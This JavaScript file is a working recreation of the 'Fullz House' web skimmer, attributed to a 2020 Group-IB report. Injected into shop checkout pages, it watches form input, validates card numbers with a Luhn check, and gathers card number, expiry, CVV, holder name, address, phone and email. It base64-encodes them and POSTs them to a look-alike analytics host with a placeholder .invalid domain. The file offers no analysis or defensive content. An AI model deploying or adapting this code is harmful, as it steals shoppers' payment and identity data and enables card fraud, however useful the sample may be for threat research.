// fullz-house, written from Group-IB, "Fullz House: When Phishing Meets Web Skimming" (2020):
// a generic skimmer ("Fullz House") added to shop pages that, once the visitor has typed a
// card number, gathers it with the billing details into "fullz" and sends them, base64 in a
// POST body, to a look-alike analytics host (here .invalid) that the group also used for its
// phishing kits.
(function () {
  var KEY = "fz_sent";
  function val(sel) { var e = document.querySelector(sel); return e ? e.value.trim() : ""; }
  function luhn(n) {
    var s = 0, alt = false;
    for (var i = n.length - 1; i >= 0; i--) {
      var c = +n[i];
      if (alt) { c *= 2; if (c > 9) c -= 9; }
      s += c; alt = !alt;
    }
    return s % 10 === 0;
  }
  function grab() {
    var num = val("input[name*=number], input[id*=cc_number], input[autocomplete=cc-number]").replace(/\D/g, "");
    if (num.length < 13 || !luhn(num) || sessionStorage.getItem(KEY) === num) return;
    var fullz = {
      number: num,
      exp: val("input[name*=exp], select[name*=exp_month]") + "/" + val("select[name*=exp_year]"),
      cvv: val("input[name*=cvv], input[name*=cid]"),
      holder: val("input[name*=firstname]") + " " + val("input[name*=lastname]"),
      address: val("input[name*=street]") + ", " + val("input[name*=city]") + ", " + val("input[name*=postcode]"),
      phone: val("input[name*=telephone]"),
      email: val("input[type=email]"),
      ref: location.host
    };
    sessionStorage.setItem(KEY, num);
    fetch("https://googlc-analytics.invalid/collect.js", {
      method: "POST", mode: "no-cors",
      body: btoa(JSON.stringify(fullz))
    });
  }
  document.addEventListener("input", function () { clearTimeout(grab.t); grab.t = setTimeout(grab, 800); });
})();
